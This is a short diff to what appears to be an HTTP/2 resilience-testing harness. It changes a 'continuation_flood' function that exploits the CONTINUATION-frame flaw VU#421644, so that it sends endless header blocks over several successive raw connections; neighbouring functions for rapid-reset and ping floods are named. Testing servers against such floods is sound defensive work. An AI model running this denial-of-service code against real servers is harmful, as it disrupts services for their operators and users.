@@ -48,12 +48,15 @@ def rapid_reset(long):
 
 
 def continuation_flood(long):
-    """A header block that has no end (VU#421644)."""
-    raw = Raw()
-    raw.send(frame(HEADERS, 0, 1, block(call_headers(LIST))))
+    """Header blocks that have no end (VU#421644), one connection after another."""
     piece = frame(CONTINUATION, 0, 1, block([("x-more", "a" * 100)] * 10)) * 50
-    taken = pour(raw, piece, 4000 if long else 100)
-    return f"{taken * 50} frames", [raw]
+    taken = 0
+    for _ in range(2 if long else 12):
+        raw = Raw()
+        raw.send(frame(HEADERS, 0, 1, block(call_headers(LIST))))
+        taken += pour(raw, piece, 4000 if long else 200)
+        raw.close()
+    return f"{taken * 50} frames", []
 
 
 def ping_flood(long):
